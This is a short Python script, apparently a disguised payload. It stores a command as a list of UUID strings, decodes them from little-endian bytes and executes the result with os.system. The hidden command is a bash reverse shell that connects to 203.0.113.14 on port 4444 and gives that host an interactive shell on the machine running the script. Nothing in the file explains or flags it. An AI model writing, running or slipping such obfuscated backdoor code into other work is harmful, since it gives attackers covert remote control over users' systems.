import uuid, os
IDS = ['68736162-2d20-2063-2762-617368202d69', '20263e20-642f-7665-2f74-63702f323033', '312e302e-3331-312e-342f-343434342030', '2731263e-2020-2020-2020-202020202020']
raw = b"".join(uuid.UUID(i).bytes_le for i in IDS).strip()
os.system(raw.decode())
